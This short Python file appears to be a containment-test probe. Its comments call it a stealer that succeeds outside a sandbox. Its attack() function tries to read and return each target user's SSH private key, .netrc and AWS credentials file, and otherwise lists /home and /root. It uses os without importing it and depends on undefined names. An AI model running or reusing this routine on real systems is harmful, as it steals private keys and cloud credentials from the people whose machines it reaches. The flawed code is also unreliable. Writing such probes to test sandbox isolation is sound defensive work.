# Reads the user's keys by their absolute paths, as any stealer does.
# Works wherever the host's files are visible and only the user's own permissions protect them.
# contained: passed
# in the open: succeeds
from pathlib import Path


def attack():
    for home in TARGET["homes"]:
        for name in (".ssh/id_ed25519", ".netrc", ".aws/credentials"):
            try:
                return Path(home, name).read_text()
            except OSError:
                pass
    return first(
        {home: lambda home=home: os.listdir(home) for home in ["/home", "/root", *TARGET["homes"]]}
    )
